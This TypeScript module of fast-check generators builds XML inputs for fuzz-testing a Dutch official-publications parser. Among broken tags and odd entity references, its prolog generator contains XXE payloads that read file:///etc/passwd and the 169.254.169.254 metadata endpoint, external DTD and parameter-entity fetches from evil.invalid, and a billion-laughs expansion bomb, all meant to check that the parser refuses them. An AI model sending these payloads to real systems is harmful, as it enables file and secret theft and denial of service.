/**
 * fast-check generators of XML in general, for the fuzz tests of every XML format
 * (officielebekendmakingen papers and metadata, SyncFeed entities and pages, SRU
 * answers): a small element tree (`el`) and its serialisation, the markup that troubles
 * parsers (entity and character references of every kind, CDATA, comments, processing
 * instructions, stray and broken tags), prologs with and without a DTD (external
 * entities, "billion laughs", parameter entities), deep nesting, huge and many
 * attributes, and text that mixes paper-like lines with hostile characters.
 *
 * @module
 */
import fc from 'fast-check';
import {
  bodyLine,
  dossierLine,
  dutchDate,
  footnoteLine,
  headerLine,
  numberLine,
  signatureLine,
} from './arbitraries.ts';
import { hostileText } from './arbitraries-bytes.ts';

/** An element, text (escaped when written) or markup written as it is. */
export type XmlNode = XmlElementNode | string | { raw: string };

/** An element of the tree. */
export interface XmlElementNode {
  name: string;
  attributes: [string, string][];
  children: XmlNode[];
}

/**
 * An element.
 *
 * @example
 * serializeXml(el('al', { id: 'a1' }, 'tekst')); // '<al id="a1">tekst</al>'
 */
export function el(name: string, attributes: Record<string, string> | [string, string][], ...children: XmlNode[]) {
  return {
    name,
    attributes: Array.isArray(attributes) ? attributes : Object.entries(attributes),
    children,
  } satisfies XmlElementNode;
}

/** Markup written as it is. */
export function raw(text: string): { raw: string } {
  return { raw: text };
}

/** Escape character data. */
function escapeText(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
}

/** Escape an attribute value (in double quotes). */
export function escapeAttribute(value: string): string {
  return value.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');
}

/** Write a node as XML (an element without children as `<name/>`). */
export function serializeXml(node: XmlNode): string {
  if (typeof node === 'string') return escapeText(node);
  if ('raw' in node) return node.raw;
  const attributes = node.attributes.map(([name, value]) => ` ${name}="${escapeAttribute(value)}"`).join('');
  if (node.children.length === 0) return `<${node.name}${attributes}/>`;
  return `<${node.name}${attributes}>${node.children.map(serializeXml).join('')}</${node.name}>`;
}

/** Entity and character references, defined and not, well-formed and not. */
export const entityReference = fc.constantFrom(
  '&amp;',
  '&lt;',
  '&gt;',
  '&quot;',
  '&apos;',
  '&#233;',
  '&#xE9;',
  '&#x20AC;',
  '&#0;',
  '&#x0;',
  '&#xD800;',
  '&#x110000;',
  '&#99999999999;',
  '&#-1;',
  '&#;',
  '&#x;',
  '&nbsp;',
  '&euro;',
  '&onbekend;',
  '&',
  '&amp',
  '& ',
  '&#38;#38;',
);

/** Markup that troubles parsers, to splice in anywhere. */
export const hostileMarkup = fc.oneof(
  entityReference,
  fc.string({ maxLength: 20 }).map((text) => `<![CDATA[${text.replace(/]]>/g, '')}]]>`),
  fc.constantFrom(
    '<![CDATA[ <al>niet</al> & ]] ]]>',
    '<![CDATA[',
    ']]>',
    '<!-- opmerking -->',
    '<!-- -- -->',
    '<!--',
    '-->',
    '<?xpp qa?>',
    '<?xml version="1.0"?>',
    '<?php echo 1; ?>',
    '<?',
    '<!DOCTYPE x>',
    '<!ENTITY e "x">',
    '</al>',
    '</>',
    '<al',
    '<>',
    '< al>',
    '<al =x>',
    '<al a="1" a="2">',
    '<a:b:c/>',
    '<1al/>',
    '<al xmlns="">',
    '<al xmlns:x="urn:x" x:y="z"/>',
    '<al\u0000/>',
    '"',
    "'",
    '<',
    '>',
  ),
);

/** A prolog and whether its DTD declares entities (a file Griffie must refuse). */
export interface Prolog {
  text: string;
  declaresEntities: boolean;
  /** An entity the DTD declares, to reference in the body. */
  entity: string | null;
}

const BILLION_LAUGHS = `<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n${Array.from(
  { length: 9 },
  (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`,
).join('\n')}\n]>`;

/** XML declarations: none, the usual ones, other encodings, unknown ones. */
const xmlDeclaration = fc.constantFrom(
  '',
  '<?xml version="1.0" encoding="UTF-8"?>\n',
  '<?xml version="1.0" encoding="utf-8" standalone="yes"?>\n',
  "<?xml version='1.0'?>",
  '<?xml version="1.1"?>\n',
  '<?xml version="1.0" encoding="ISO-8859-1"?>\n',
  '<?xml version="1.0" encoding="windows-1252"?>\n',
  '<?xml version="1.0" encoding="UTF-16"?>\n',
  '<?xml version="1.0" encoding="bogus-8"?>\n',
  '<?xml version="1.0" encoding="x-user-defined"?>\n',
  '  \n<?xml version="1.0"?>',
);

/** A prolog: a declaration, then now and then a comment, a processing instruction or a DTD (hostile or not). */
export function prolog(root: string): fc.Arbitrary<Prolog> {
  const none = (text: string): Prolog => ({ text, declaresEntities: false, entity: null });
  const entities = (text: string, entity: string): Prolog => ({ text, declaresEntities: true, entity });
  return fc
    .tuple(
      xmlDeclaration,
      fc.oneof(
        { arbitrary: fc.constant(none('')), weight: 12 },
        { arbitrary: fc.constant(none('<!-- fictief voorbeeld -->\n<?xml-stylesheet href="op.xsl"?>\n')), weight: 1 },
        {
          arbitrary: fc.constantFrom(
            none(`<!DOCTYPE ${root} SYSTEM "http://evil.invalid/${root}.dtd">\n`),
            none(`<!DOCTYPE ${root} PUBLIC "-//FICTIEF//DTD ${root}//NL" "file:///etc/passwd">\n`),
            none(`<!DOCTYPE ${root}>\n`),
            none(`<!DOCTYPE ${root} [<!ELEMENT ${root} ANY>]>\n`),
          ),
          weight: 2,
        },
        {
          arbitrary: fc.constantFrom(
            entities(`<!DOCTYPE ${root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n`, '&xxe;'),
            entities(`<!DOCTYPE ${root} [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>\n`, '&xxe;'),
            entities(`${BILLION_LAUGHS}\n`, '&lol9;'),
            entities(
              `<!DOCTYPE ${root} [<!ENTITY % p SYSTEM "http://evil.invalid/p.dtd"> %p; <!ENTITY e "x">]>\n`,
              '&e;',
            ),
            entities(`<!DOCTYPE ${root} [\n<!ENTITY fictief "fictief voorbeeld">\n]>\n`, '&fictief;'),
          ),
          weight: 2,
        },
      ),
    )
    .map(([declaration, rest]) => ({ ...rest, text: declaration + rest.text }));
}

/** Paper-like text for element content: the lines of papers, dates, numbers, and hostile text. */
export const paperText: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: bodyLine, weight: 6 },
  { arbitrary: dossierLine, weight: 1 },
  { arbitrary: numberLine, weight: 1 },
  { arbitrary: headerLine, weight: 1 },
  { arbitrary: footnoteLine, weight: 1 },
  { arbitrary: signatureLine, weight: 1 },
  { arbitrary: dutchDate, weight: 1 },
  {
    arbitrary: fc.constantFrom('', ' ', '\n  ', 'Kamerstuk 99 012, nr. 5', 'Handelingen II 2024/25, nr. 40'),
    weight: 1,
  },
  { arbitrary: hostileText, weight: 2 },
);

/** An attribute value: usual ones, empty, hostile, or huge. */
export const attributeValue: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom('', '1', 'x', 'voet', 'kst-99012-5', '2025-03-12', 'true', 'false'), weight: 6 },
  { arbitrary: hostileText, weight: 2 },
  // Huge values of short words (a value may become text, and the extract stage is slow on very long words).
  { arbitrary: fc.integer({ min: 10_000, max: 200_000 }).map((n) => 'ab '.repeat(Math.ceil(n / 3))), weight: 1 },
);

/** Hostile attributes to add to an element: many, duplicated, namespaced, with odd names. */
export const hostileAttributes: fc.Arbitrary<[string, string][]> = fc.oneof(
  fc.integer({ min: 100, max: 600 }).map((n) => Array.from({ length: n }, (_, i): [string, string] => [`a${i}`, 'x'])),
  fc.constant<[string, string][]>([
    ['xmlns', 'urn:fictief'],
    ['xmlns:x', ''],
    ['x:y', 'z'],
  ]),
  fc.array(fc.tuple(fc.constantFrom('id', 'x', 'a-b', 'a.b', '_', 'xml:lang'), attributeValue), { maxLength: 4 }),
);

/**
 * `inner` nested in `depth` elements named `name`; with `closed` false the end tags are
 * missing (a file cut off deep inside).
 */
export function nested(name: string, depth: number, inner: string, closed = true): string {
  return `<${name}>`.repeat(depth) + inner + (closed ? `</${name}>`.repeat(depth) : '');
}

/** A nesting depth: shallow, around common limits, or very deep (a stack-overflow attempt). */
export const nestingDepth = fc.oneof(
  { arbitrary: fc.integer({ min: 1, max: 250 }), weight: 2 },
  { arbitrary: fc.integer({ min: 251, max: 2000 }), weight: 2 },
  // Deep enough to overflow a recursive reader's stack (about 10,000 frames).
  { arbitrary: fc.integer({ min: 8_000, max: 20_000 }), weight: 1 },
);

/** The elements of a tree in document order. */
export function elementsOf(node: XmlNode, out: XmlElementNode[] = []): XmlElementNode[] {
  if (typeof node === 'string' || 'raw' in node) return out;
  out.push(node);
  for (const child of node.children) elementsOf(child, out);
  return out;
}

/**
 * A copy of the tree with, for each change, `attributes` added to and `inner` (markup
 * written as is) appended to the element at `share` (0 to 1) of its elements in document
 * order (of those `within` accepts, when given).
 */
export function decorate(
  tree: XmlElementNode,
  changes: {
    share: number;
    attributes?: [string, string][];
    inner?: string;
    within?: (element: XmlElementNode) => boolean;
  }[],
): XmlElementNode {
  const copy = cloneElement(tree);
  const all = elementsOf(copy);
  for (const change of changes) {
    const elements = change.within ? all.filter(change.within) : all;
    const target = elements[Math.min(elements.length - 1, Math.floor(change.share * elements.length))];
    if (!target) continue;
    if (change.attributes) target.attributes.push(...change.attributes);
    if (change.inner !== undefined) target.children.push(raw(change.inner));
  }
  return copy;
}

function cloneElement(node: XmlElementNode): XmlElementNode {
  return {
    name: node.name,
    attributes: [...node.attributes],
    children: node.children.map((child) => (typeof child === 'string' || 'raw' in child ? child : cloneElement(child))),
  };
}

/** `text` with `piece` inserted at `share` (0 to 1) of its length. */
export function spliceAt(text: string, share: number, piece: string): string {
  const at = Math.min(text.length, Math.floor(share * text.length));
  return text.slice(0, at) + piece + text.slice(at);
}
